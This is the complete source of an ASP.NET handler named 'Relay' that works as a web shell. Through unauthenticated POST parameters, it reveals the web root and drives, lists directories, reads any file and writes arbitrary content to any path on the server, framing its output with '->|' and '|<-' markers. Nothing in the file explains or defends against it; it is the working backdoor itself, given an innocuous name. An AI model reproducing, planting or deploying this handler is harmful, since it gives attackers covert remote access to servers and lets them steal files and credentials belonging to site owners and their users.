<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.IO;
using System.Text;
using System.Web;

public class Relay : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext ctx)
    {
        string act = ctx.Request.Form["op"];
        string a1 = ctx.Request.Form["p1"];
        string a2 = ctx.Request.Form["p2"];
        StringBuilder sb = new StringBuilder();
        switch (act)
        {
            case "A":
                sb.Append(ctx.Server.MapPath("/")).Append("\t");
                foreach (string d in Directory.GetLogicalDrives()) sb.Append(d[0]).Append(":");
                break;
            case "B":
                foreach (DirectoryInfo d in new DirectoryInfo(a1).GetDirectories()) sb.Append(d.Name).Append("/\n");
                break;
            case "D":
                File.WriteAllText(a1, a2);
                sb.Append("1");
                break;
            case "F":
                ctx.Response.Write("->|");
                ctx.Response.WriteFile(a1);
                ctx.Response.Write("|<-");
                return;
        }
        ctx.Response.Write("->|" + sb.ToString() + "|<-");
    }
}
